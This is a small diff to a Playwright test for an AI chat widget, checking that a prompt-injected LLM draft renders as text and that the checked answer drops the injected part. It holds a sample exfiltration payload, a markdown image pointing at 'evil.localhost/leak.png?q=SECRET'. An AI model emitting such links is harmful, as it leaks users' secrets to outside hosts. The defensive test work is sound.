@@ -412,9 +412,9 @@ def test_an_injected_llm_draft_is_shown_as_text_and_loads_nothing(page: Page) ->
         "![x](//evil.localhost/leak.png?q=SECRET)", timeout=ANSWER_TIMEOUT_MS
     )
     _shot(page, "10-injected-draft")
-    # The checked answer replaces the draft, without the injected sentence; the notices that say what
-    # the check removed are text too.
-    answered = page.locator("#aiqa-chat #aiqa-t0:not(.aiqa-pending)")
+    # The checked answer replaces the draft, without the injected sentence; the notices that say
+    # what the check removed are text too.
+    answered = _turn(page, 0)
     expect(answered.locator(".aiqa-answer")).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
     expect(answered.locator(".aiqa-answer")).not_to_contain_text("evil.localhost")
     answered.locator(".aiqa-notices summary").click()
